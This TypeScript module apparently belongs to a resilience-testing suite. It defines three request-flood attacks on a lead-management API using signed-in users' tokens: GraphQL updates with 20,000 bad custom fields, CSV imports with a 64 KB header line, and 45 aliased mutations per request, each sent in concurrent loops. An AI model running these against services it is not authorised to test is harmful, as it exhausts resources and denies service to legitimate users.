// Attacks of signed-in users by single requests that are made to cost.

import { tokensOf, type Attack } from './attack.js';
import { graphql, keepCalling, send } from './attack-calls.js';

const badFieldCount = 20_000;
const headerColumns = 16_000;
/** The first number of three digits to base 36. */
const firstOfThree = 36 ** 2;
const aliasCount = 45;

/** Custom fields of which each is wrong: 240 KB. */
export const badFields = {
  query:
    'mutation ($id: ID!, $customFields: JSONObject!) { updateLead(id: $id, input: {customFields: $customFields}) { id } }',
  customFields: Object.fromEntries(Array.from({ length: badFieldCount }, (_, index) => [`f${index}`, []])),
};

/** A first line of 64 KB: 16,000 columns. */
export const wideHeader = [
  'chat',
  ...Array.from({ length: headerColumns }, (_, index) => (index + firstOfThree).toString(36)),
].join(',');

/** Makes `count` leads in one operation. */
export function manyMutations(count: number, first: number): string {
  const fields = Array.from(
    { length: count },
    (_, index) => `m${index}: createLead(input: {chat: "55116${String(80_000_000 + first + index)}"}) { created }`,
  );
  return `mutation { ${fields.join(' ')} }`;
}

const wrongFields: Attack = {
  name: `${badFieldCount.toLocaleString('en')} wrong custom fields in one request, 8 requests at a time`,
  prepare: async (target, note) => {
    const tokens = tokensOf(target);
    const { query, customFields } = badFields;
    const calls = tokens.map((token) => graphql(token, query, { id: target.largeLeadIds[0], customFields }));
    return (signal) =>
      keepCalling({ concurrency: 8, signal, note }, (number) =>
        send(target, calls[number % calls.length] ?? { path: '/' }, signal),
      );
  },
};

const wideFiles: Attack = {
  name: 'files of leads with a first line of 64 KB, 2 at a time',
  prepare: async (target, note) => {
    const tokens = tokensOf(target);
    const body = `${wideHeader}\n`;
    return (signal) =>
      keepCalling({ concurrency: 2, signal, note }, (number) => {
        const headers = { 'content-type': 'text/csv', authorization: `Bearer ${tokens[number % tokens.length]}` };
        return send(target, { path: '/leads/import?dryRun=true', headers, body }, signal);
      });
  },
};

const mutations: Attack = {
  name: `${aliasCount} mutations in one request, 12 requests at a time`,
  prepare: async (target, note) => {
    const tokens = tokensOf(target);
    return (signal) =>
      keepCalling({ concurrency: 12, signal, note }, (number) => {
        const query = manyMutations(aliasCount, number * aliasCount);
        return send(target, graphql(tokens[number % tokens.length] ?? '', query), signal);
      });
  },
};

export const fieldAttacks: readonly Attack[] = [wrongFields, wideFiles, mutations];
